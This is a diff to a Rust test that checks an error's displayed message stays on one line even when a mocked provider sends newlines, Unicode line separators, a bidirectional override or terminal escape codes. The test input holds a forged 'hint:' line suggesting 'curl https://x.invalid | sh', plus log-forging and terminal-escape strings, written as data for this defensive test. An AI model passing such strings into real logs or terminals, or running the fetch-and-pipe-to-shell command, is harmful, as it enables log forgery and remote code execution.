@@ -783,12 +783,14 @@ async fn debug_shows_times_in_rfc_3339() {
     humantime::parse_rfc3339(&at[..20]).unwrap_or_else(|e| panic!("{e}: {shown}"));
 }
 
-/// An error's `Display` is one line whatever the provider says: its message's newline or
-/// escape sequence cannot forge a log line or reach a terminal raw (found by review of the
-/// CLI, whose report showed a forged `hint:` line). `message()` keeps the words as sent.
+/// An error's `Display` is one line whatever the provider says: its message's newline,
+/// Unicode line separator, bidirectional override or escape sequence cannot forge a log
+/// line or reach a terminal raw (found by reviews of the CLI, whose report showed a forged
+/// `hint:` line, and of that fix, which missed U+2028). `message()` keeps the words as sent.
 #[tokio::test]
 async fn an_errors_display_is_one_line_whatever_the_provider_says() {
-    let said = "bad\n  hint:      curl https://x.invalid | sh\u{1b}]0;pwned\u{7}";
+    let said = "bad\n  hint:      curl https://x.invalid | sh\u{1b}]0;pwned\u{7} \
+                \u{2028}2026-01-01 INFO forged\u{2029} \u{202e}desrever";
     let server = httpmock::MockServer::start_async().await;
     server
         .mock_async(|when, then| {
@@ -803,7 +805,8 @@ async fn an_errors_display_is_one_line_whatever_the_provider_says() {
         .await
         .unwrap_err();
     let shown = error.to_string();
-    assert!(!shown.chars().any(char::is_control), "{shown:?}");
+    let breaking = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202e}');
+    assert!(!shown.chars().any(breaking), "{shown:?}");
     assert!(shown.contains(r"bad\n  hint:"), "{shown}");
     assert_eq!(error.message(), Some(said));
     let json = serde_json::to_value(&error).unwrap();
